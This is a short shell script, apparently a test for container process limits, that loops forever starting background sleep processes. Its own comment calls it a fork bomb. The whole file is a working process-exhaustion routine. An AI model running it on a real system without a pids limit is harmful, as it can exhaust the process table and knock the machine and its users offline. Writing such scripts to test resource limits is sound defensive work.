#!/bin/sh
# Forks without end: only a pids limit keeps this in check.
echo "fork bomb $$"
while :; do
    sleep 1000 &
done
